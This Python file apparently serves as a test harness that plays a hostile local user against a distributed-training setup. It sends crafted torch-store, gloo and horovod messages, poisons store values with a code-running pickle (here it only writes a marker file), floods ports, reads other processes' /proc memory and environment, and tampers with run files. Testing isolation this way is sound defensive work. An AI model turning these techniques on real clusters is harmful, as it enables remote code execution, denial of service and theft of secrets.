"""A process of another user, who knows the protocols of everything that ranks listen on. It is started as root, and
becomes that user before it does anything. It imports only Python's own library, because that user may not be able to
read the packages of the tests.

Its input has a line of JSON for each thing to attack: `{"port": 1234}`, `{"pid": 12}` or `{"folder": "/runs"}`. A port
may have "messages": only these of `MESSAGES` are sent there, "host", its address, and "is_flooded". It attacks all of
them again and again until its input ends, and prints what it has reached as JSON."""

import base64
import encodings.idna  # noqa: F401  # needed to connect, and not readable for that user later
import json
import os
import pickle
import socket
import struct
import sys
import threading
from collections import Counter
from contextlib import suppress
from pathlib import Path
from typing import Any

USER = 65534
_ANSWER_S = 0.05
_PAUSE_S = 0.05  # a flood that takes all cores would only show that
_FLOOD = 40  # connections at once
_VALIDATE, _SET, _PING, _LIST = 0, 1, 13, 17  # operations of torch's store
_MAGIC = 0x3C85F7CE
_KEYS = ("/attempt0/control", "/failure of rank 0 in attempt 0", "/result of attempt 0", "/control", "/port")


class _Executed:
    """A pickle that would leave a file if somebody read it."""

    def __reduce__(self) -> tuple[Any, ...]:
        return open, ("/tmp/meshwright-stranger-was-here", "w")


def _set(key: bytes, value: bytes) -> bytes:
    return struct.pack("<BQ", _SET, len(key)) + key + struct.pack("<Q", len(value)) + value


def _store_words() -> bytes:
    written = b"".join(_set(key.encode(), b"{}") for key in _KEYS)
    return struct.pack("<BI", _VALIDATE, _MAGIC) + written + struct.pack("<BI", _PING, 7)


def _overwrite(store: socket.socket) -> None:
    """Writes the pickle into every value of a store that answers, in the form that torchrun's rendezvous reads."""
    value = base64.b64encode(pickle.dumps(_Executed()))
    with store.makefile("rb") as answers:
        store.sendall(struct.pack("<B", _LIST))
        (count,) = struct.unpack("<q", answers.read(8))
        keys = [answers.read(*struct.unpack("<Q", answers.read(8))) for _ in range(count)]
        store.sendall(b"".join(_set(key, value) for key in keys) + struct.pack("<BI", _PING, 7))
        answers.read(4)  # a store without DNS takes seconds to report a connection that ends without it


def _frame(value: Any) -> bytes:
    data = json.dumps(value).encode()
    return struct.pack("!I", len(data)) + data


MESSAGES = {
    "store": _store_words(),
    **{f"gloo {number}": struct.pack("<q", number) + b"\1" * 64 for number in range(4)},
    "horovod": _frame(["", 1]) + _frame({"rank": 1}),
    "elastic": _frame({"worker": "worker0"}) + _frame({"join": -1}),
    "page": b"GET / HTTP/1.0\r\n\r\n",
    "pickle": struct.pack("!I", 64) + pickle.dumps(_Executed()),
    "junk": os.urandom(4096),
    "nothing": b"",
}


class Stranger:
    def __init__(self) -> None:
        self.tries: Counter[str] = Counter()
        self.reached: Counter[str] = Counter()
        self.targets: list[dict[str, Any]] = []
        self.end = threading.Event()

    def attack_all(self) -> None:
        is_last = False
        while not is_last:
            is_last = self.end.is_set()
            for target in self.targets[::-1]:
                with suppress(OSError):
                    self._attack(target)
            self.end.wait(_PAUSE_S)

    def _attack(self, target: dict[str, Any]) -> None:
        if "port" in target:
            for name in target.get("messages", MESSAGES):
                self._say((target.get("host", "127.0.0.1"), target["port"]), name)
            if target.get("is_flooded", True):
                self._flood((target.get("host", "127.0.0.1"), target["port"]))
        elif "pid" in target:
            self._look_into(Path("/proc", str(target["pid"])))
        else:
            for file in Path(target["folder"]).rglob("*"):
                self._change(file)

    def _say(self, address: tuple[str, int], name: str) -> None:
        self.tries[name] += 1
        with suppress(OSError), socket.create_connection(address, 1.0) as connection:
            connection.settimeout(_ANSWER_S)
            connection.sendall(MESSAGES[name])
            if connection.recv(100):
                self.reached[f"port {address[1]}, {name}"] += 1
                if name == "store":
                    _overwrite(connection)

    def _flood(self, address: tuple[str, int]) -> None:
        connections = []
        for _ in range(_FLOOD):
            self.tries["flood"] += 1
            with suppress(OSError):
                connections.append(socket.create_connection(address, 0.2))
        for connection in connections:
            connection.close()

    def _look_into(self, process: Path) -> None:
        for name in ("environ", "mem", "maps"):
            self.tries["process"] += 1
            with suppress(OSError), (process / name).open("rb") as stream:
                if stream.read(1):
                    self.reached[f"{name} of a process"] += 1
        self.tries["process"] += 1
        with suppress(OSError):
            for link in (process / "fd").iterdir():
                self.reached[f"open file {os.readlink(link)}"] += 1

    def _change(self, file: Path) -> None:
        self.tries["file"] += 1
        with suppress(OSError):
            file.rename(file.with_suffix(".taken"))
            self.reached[f"renamed {file}"] += 1
        if file.is_file():
            with suppress(OSError), file.open("r+b"):
                self.reached[f"wrote {file}"] += 1


def main() -> None:
    os.setgroups([])
    os.setgid(USER)
    os.setuid(USER)
    stranger = Stranger()
    threads = [threading.Thread(target=stranger.attack_all) for _ in range(2)]
    for thread in threads:
        thread.start()
    for line in sys.stdin:
        stranger.targets.append(json.loads(line))
    stranger.end.set()
    for thread in threads:
        thread.join()
    print(json.dumps({"tries": sum(stranger.tries.values()), "reached": stranger.reached}))


if __name__ == "__main__":
    main()
